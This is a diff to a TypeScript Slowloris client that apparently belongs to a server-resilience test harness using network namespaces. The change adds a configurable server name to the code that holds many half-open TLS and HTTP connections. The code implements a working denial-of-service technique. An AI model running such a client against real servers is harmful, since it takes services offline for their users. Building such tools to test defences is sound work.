@@ -5,7 +5,7 @@ import { fileURLToPath } from 'node:url';
 import { serveStats, startClient } from './client-process.ts';
 import type { Network } from './network-namespace.ts';
 
-type Options = { host: string; port: number; from: readonly string[]; count: number };
+type Options = { host: string; name: string; port: number; from: readonly string[]; count: number };
 type Stats = {
   open: number;
   mostOpen: number;
@@ -16,7 +16,7 @@ type Stats = {
 };
 
 /** Ways to leave a request incomplete; each stops at a different point. */
-const techniques: Record<string, (where: { host: string; port: number; localAddress: string }) => Socket> = {
+const techniques: Record<string, (where: { host: string; servername: string; port: number; localAddress: string }) => Socket> = {
   'no data': (where) => connect(where),
   // Header of a 512-byte TLS record.
   'partial TLS handshake': (where) => {
@@ -25,8 +25,8 @@ const techniques: Record<string, (where: { host: string; port: number; localAddr
     return socket;
   },
   'partial header': (where) => {
-    const socket = connectTls({ ...where, servername: 'localhost', rejectUnauthorized: false });
-    socket.once('secureConnect', () => socket.write('GET / HTTP/1.1\r\nHost: localhost\r\nX-Half: '));
+    const socket = connectTls({ ...where, rejectUnauthorized: false });
+    socket.once('secureConnect', () => socket.write(`GET / HTTP/1.1\r\nHost: ${where.servername}\r\nX-Half: `));
     return socket;
   },
 };
@@ -50,7 +50,7 @@ async function hold(technique: () => Socket, stats: Stats): Promise<void> {
 }
 
 /** Opens the connections over a few seconds, and reopens each one that the server closes. */
-async function holdAll({ count, from, host, port }: Options, stats: Stats): Promise<void> {
+async function holdAll({ count, from, host, name, port }: Options, stats: Stats): Promise<void> {
   const kinds = Object.values(techniques);
   for (let number = 0; number < count; number += 1) {
     const localAddress = from[number % from.length] ?? '';
@@ -58,7 +58,7 @@ async function holdAll({ count, from, host, port }: Options, stats: Stats): Prom
     if (!technique) return;
     void (async () => {
       for (;;) {
-        await hold(() => technique({ host, port, localAddress }), stats);
+        await hold(() => technique({ host, servername: name, port, localAddress }), stats);
         await sleep(100);
       }
     })();
@@ -68,9 +68,13 @@ async function holdAll({ count, from, host, port }: Options, stats: Stats): Prom
 }
 
 /** Holds this many incomplete requests open until stopped. */
-export const startSlowloris = (network: Network, { count, port }: { port: number; count: number }) =>
+export const startSlowloris = (
+  network: Network,
+  { count, name = 'localhost', port }: { port: number; name?: string | undefined; count: number },
+) =>
   startClient<Options, Stats>(network, fileURLToPath(import.meta.url), {
     host: network.host,
+    name,
     from: network.attackers,
     port,
     count,
